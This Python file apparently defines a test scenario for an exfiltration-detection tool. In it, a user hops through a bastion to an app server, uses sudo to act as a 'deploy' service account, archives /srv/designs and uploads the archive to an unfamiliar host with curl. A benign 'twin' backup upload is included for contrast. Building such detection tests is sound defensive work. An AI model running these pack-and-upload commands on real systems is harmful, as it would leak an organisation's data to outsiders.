"""Three hops with a service account on the way, and the loot fetched by sftp: one person behind all of it."""

from __future__ import annotations

from ..props import DESIGN_BYTES, designs
from ..scenario import BACKUP, EVERYTHING, STRANGER, Person, Prepared, Scenario, Step, Truth
from ..twins import Draw

_DEPLOY = "id deploy 2>/dev/null || useradd --create-home --shell /bin/bash deploy"
_PACK = "tar czf /tmp/release.tgz -C /srv designs"
_SEND = "curl -sS --noproxy '*' -T /tmp/release.tgz http://{server}:8080/r.tgz"


def _twin(draw: Draw) -> tuple[Step, ...]:
    pack = f"head -c {draw.number(DESIGN_BYTES, 1000, DESIGN_BYTES)} /srv/designs/board.bin"
    send = _SEND.format(server=BACKUP).replace("release", "daily")
    work = f"{pack} | sudo -u deploy tee /tmp/daily.tgz > /dev/null && sudo -u deploy {send}"
    return (Step("amy", f'ssh amy@bastion "ssh amy@app \\"{work}\\""'),)


SCENARIO = Scenario(
    number=25,
    title="laptop to bastion to app, sudo to a service account, an upload",
    people=(Person("alice", ("bastion", "app"), EVERYTHING), Person("amy", ("bastion", "app"), EVERYTHING)),
    prepared=(designs("app"), Prepared("app", _DEPLOY)),
    steps=(
        Step(
            "alice",
            f'ssh alice@bastion "ssh alice@app \\"sudo -u deploy {_PACK} && '
            f'sudo -u deploy {_SEND.format(server=STRANGER)}\\""',
        ),
    ),
    twin_title="the daily way over the bastion, and a release to the backup host",
    twin=_twin,
    truth=Truth("alice", ("bastion", "app"), ("upload-new-destination",), DESIGN_BYTES, STRANGER),
)
